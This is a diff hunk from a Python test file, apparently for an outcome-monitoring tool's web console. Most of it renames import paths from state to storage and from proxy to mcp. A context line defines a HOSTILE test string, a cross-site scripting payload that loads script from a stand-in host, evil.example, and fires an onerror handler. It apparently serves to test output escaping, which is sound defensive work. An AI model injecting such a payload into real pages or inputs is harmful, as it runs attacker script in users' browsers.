@@ -22,14 +22,14 @@ from outcome_monitors.learning.folder import StateFolder
 from outcome_monitors.learning.metrics import exposition
 from outcome_monitors.learning.status import Places, status_of
 from outcome_monitors.model import Violation
-from outcome_monitors.state.folder import FolderStorage
-from outcome_monitors.state.opening import current_storage
+from outcome_monitors.storage.folder import FolderStorage
+from outcome_monitors.storage.opening import current_storage
 from outcome_monitors_server.console.server import console_app, serve
 from tests.commandline import runner
 from tests.console.serving import Reader, serving
 from tests.events.shop import order
 from tests.homes import Home
-from tests.proxy.folders import learned, with_alarms
+from tests.mcp.folders import learned, with_alarms
 
 CLAUSE = "get_order.status/domain"
 HOSTILE = "</code><script src=//evil.example/x.js></script><img src=x onerror=alert(1)>"
